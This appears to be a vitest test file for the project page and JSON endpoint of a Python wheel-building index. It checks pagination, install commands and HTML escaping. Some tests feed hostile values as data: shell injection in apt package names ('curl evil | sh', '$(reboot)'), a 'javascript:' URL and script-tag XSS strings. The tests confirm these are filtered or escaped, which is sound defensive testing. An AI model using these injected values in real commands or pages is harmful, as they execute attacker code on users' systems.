import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sha256Hex } from '../../src/core/digest.ts'
import { failureCauses } from '../../src/build/classify-failure.ts'
import { pageRange, projectPage } from '../../src/http/project-page.ts'
import type { TargetId } from '../../src/core/ids.ts'
import type { ProjectSource } from '../../src/http/project-routes.ts'
import type { ProjectView } from '../../src/http/project-view.ts'
import { CP311, CP313, testApp } from './http-fixtures.ts'
import { aRelease, aView, aWheel, BUILD, LOG } from './project-fixtures.ts'

function pageOf(view: ProjectView, page = 1): string {
  return projectPage(view, { place: { url: 'http://x/simple/', trust: '' }, causes: failureCauses(), page })
}

/** What a click marks. */
function linesToCopy(page: string): readonly string[] {
  return [...page.matchAll(/<code class="copy">([^<]*)<\/code/g)].map(([, text = '']) => text)
}

function appWith(view: ProjectView) {
  return testApp({ projects: { view: async (name) => (name === view.name ? view : undefined) } }).app
}

describe('the page', () => {
  test('shows what was built, what failed and why, and how to install it', async () => {
    const response = await appWith(aView()).request('/project/demo')
    const text = await response.text()
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(text).toMatch(new RegExp(`<a class="state built" href="../log/${LOG}"[^>]*>built</a`))
    expect(text).toContain('missing header &lt;jpeglib.h&gt;')
    expect(linesToCopy(text)).toEqual([
      'sudo apt install libjpeg62-turbo zlib1g',
      'pip install --index-url http://localhost/simple/ demo',
      'uv pip install --default-index http://localhost/simple/ demo'
    ])
    expect(text).toContain('120.6 KiB')
    expect(text).toMatch(/pi-attic, 2 min/)
    expect(text.match(/<script/g)).toHaveLength(1)
  })

  test('a target without a word is not wanted', () => {
    expect(pageOf(aView({ releases: [aRelease({ cells: [] })] }))).toContain('not wanted')
  })

  test('hundreds of versions take several pages, and no page is large', async () => {
    const targets = Array.from({ length: 6 }, (_, at) => `cp31${at}-linux_armv7l-glibc2.4${at}` as TargetId)
    const all = Array.from({ length: 400 }, (_, at) =>
      aRelease({
        version: `1.${400 - at}`,
        wheels: targets.map((target) =>
          aWheel({ target, filename: `demo-1.${400 - at}-${target}-linux_armv7l.whl` })
        ),
        cells: targets.map((target) => ({
          target,
          state: 'built',
          reason: 'a wheel',
          build: BUILD,
          log: LOG
        }))
      })
    )
    const view: ProjectSource['view'] = async (_, rangeFor) => {
      const { first, count } = rangeFor!(targets.length)
      return aView({ targets, releases: all.slice(first, first + count), first, total: all.length })
    }
    const { app } = testApp({ projects: { view } })
    const seen = new Set<string>()
    for (let path = 'demo', pages = 0; path !== ''; pages++) {
      const text = await (await app.request(`/project/${path}`)).text()
      expect(text.length).toBeLessThan(150_000)
      for (const [, version = ''] of text.matchAll(/<th scope="row">\s*(1\.\d+)/g)) seen.add(version)
      path = /<a rel="next" href="([^"]+)"/.exec(text)?.[1] ?? ''
      expect(pages).toBeLessThan(30)
    }
    expect(seen.size).toBe(400)
    expect((await app.request('/project/demo?page=999')).status).toBe(404)
    expect((await app.request('/project/demo?page=-1')).status).toBe(200)
  })

  test('a page holds fewer versions the more targets there are', () => {
    expect(pageRange(1, 1)).toEqual({ first: 0, count: 25 })
    expect(pageRange(3, 12)).toEqual({ first: 20, count: 10 })
    expect(pageRange(2, 64)).toEqual({ first: 5, count: 5 })
  })

  test('tells what is missing of the newest version, with what helps', () => {
    const cells = [
      {
        target: CP311,
        state: 'failed',
        reason: 'the header ffi.h is missing',
        cause: 'missing-header',
        log: LOG
      },
      { target: CP313, state: 'queued', reason: 'the next free builder takes it', asked: true }
    ] as const
    const text = pageOf(aView({ releases: [aRelease({ version: '2.0', wheels: [], cells })] }))
    expect(text).toContain('What is missing of 2.0, and why')
    expect(text).toMatch(/the header ffi\.h is missing[^]*Install the development package/)
    expect(text).toContain('the next free builder takes it')
    expect(text).not.toContain('<form class="card"')
  })

  test('has a button when somebody could ask for something', () => {
    const cells = [{ target: CP311, state: 'waiting', reason: 'nobody asked', asked: false }] as const
    const text = pageOf(aView({ releases: [aRelease({ wheels: [], cells })] }))
    expect(text).toMatch(/<form class="card" method="post" action="demo\/ask">[^]*<button>/)
  })

  test('says so when nothing is missing', () => {
    const cells = [{ target: CP311, state: 'built', reason: '', log: LOG }] as const
    const text = pageOf(aView({ releases: [aRelease({ cells })] }))
    expect(text).toContain('Nothing is missing')
    expect(text).not.toContain('<form class="card"')
  })

  test('a project without releases, wheels or targets is a page as well', () => {
    const text = pageOf(aView({ releases: [], targets: [], upstreamUrl: 'javascript:alert(1)' }))
    expect(text).toContain('no release with a source archive')
    expect(text).not.toContain('javascript:')
  })

  test('the install command is of a usual release, and copies no shell code out of a builder’s record', () => {
    const odd = aWheel({ aptPackages: ['ok1', 'x; curl evil | sh', '$(reboot)', '-o=Evil'] })
    const releases = [
      aRelease({ version: '3.0a1', prerelease: true, wheels: [aWheel({ aptPackages: ['pre'] })] }),
      aRelease({ version: '2.0', yanked: true, wheels: [aWheel({ aptPackages: ['yanked'] })] }),
      aRelease({ version: '1.0', wheels: [odd] })
    ]
    expect(linesToCopy(pageOf(aView({ releases })))[0]).toBe('sudo apt install ok1')
  })

  test('says of a wheel that it did not import, and why it may be less than it should', () => {
    const said = (over: Parameters<typeof aWheel>[0]) =>
      pageOf(aView({ releases: [aRelease({ wheels: [aWheel(over)] })] }))
    const broken = { outcome: 'failed', modules: 2, reason: 'demo._c: undefined symbol: x' } as const
    const text = said({ smoke: broken, suspicious: 'no compiled code' })
    expect(text).toContain('its import failed: demo._c: undefined symbol: x')
    expect(text).toContain('suspicious: no compiled code')
    const unknown = { outcome: 'unknown', modules: 1, reason: 'demo: missing dependency six' } as const
    expect(said({ smoke: unknown })).not.toMatch(/import failed|suspicious|missing dependency/)
  })

  test('whatever records and pages hold, their text stays text', () => {
    const nasty = fc.string({ unit: fc.constantFrom('<', '>', '"', "'", '&', 'script', '/', ' ', 'on=') })
    fc.assert(
      fc.property(nasty, nasty, (a, b) => {
        const view = aView({
          displayName: a,
          summary: `${b}<img src=x>`,
          releases: [
            aRelease({
              version: a,
              skipReason: `${b}<b>`,
              wheels: [
                aWheel({
                  filename: `${a}.whl`,
                  aptPackages: [b],
                  yanked: b,
                  smoke: { outcome: 'failed', modules: 1, reason: a },
                  suspicious: b
                })
              ],
              cells: [{ target: CP311, state: 'failed', reason: `"${a}><script>` }]
            })
          ]
        })
        const tags = (pageOf(view).match(/<[a-z]+/gi) ?? []).map((tag) => tag.slice(1).toLowerCase())
        // One script is ours.
        expect(tags.filter((tag) => ['script', 'img', 'b'].includes(tag))).toEqual(['script'])
      })
    )
  })
})

describe('the JSON', () => {
  test('keeps piwheels’ names and adds builds', async () => {
    const json: unknown = await (await appWith(aView()).request('/project/demo/json')).json()
    expect(json).toEqual({
      package: 'Demo',
      summary: 'Shows things',
      pypi_url: 'https://upstream.invalid/project/demo/',
      piwheels_url: '../demo',
      targets: [CP311, CP313],
      releases: {
        '1.0': {
          released: '2026-01-01 00:00:00',
          prerelease: false,
          yanked: false,
          skip_reason: '',
          files: {
            'demo-1.0-cp311-cp311-linux_armv7l.whl': {
              file_url: `../../files/${sha256Hex('wheel')}/demo-1.0-cp311-cp311-linux_armv7l.whl`,
              filehash: sha256Hex('wheel'),
              filesize: 123_456,
              builder_abi: 'cp311',
              file_abi_tag: 'cp311',
              platform: 'linux_armv7l',
              requires_python: '>=3.8',
              apt_dependencies: ['libjpeg62-turbo', 'zlib1g'],
              pip_dependencies: ['attrs', 'six'],
              target: CP311,
              builder: '12D3KooW',
              log: `../../logs/${LOG}`,
              yanked: false,
              import_test: null,
              suspicious: null
            }
          },
          builds: {
            [CP311]: {
              outcome: 'built',
              reason: '',
              asked: true,
              cause: null,
              builder: '12D3KooW',
              builder_name: 'pi-attic',
              finished: '2026-01-01 00:00:00',
              duration_seconds: 123,
              log: `../../logs/${LOG}`
            },
            [CP313]: {
              outcome: 'failed',
              reason: 'missing header <jpeglib.h>',
              asked: true,
              cause: null,
              builder: null,
              builder_name: null,
              finished: null,
              duration_seconds: null,
              log: `../../logs/${LOG}`
            }
          }
        }
      }
    })
  })

  test('links lead to files from where they stand', async () => {
    const url = new URL(`../../files/x`, 'http://node/project/demo/json')
    expect(url.pathname).toBe('/files/x')
  })
})
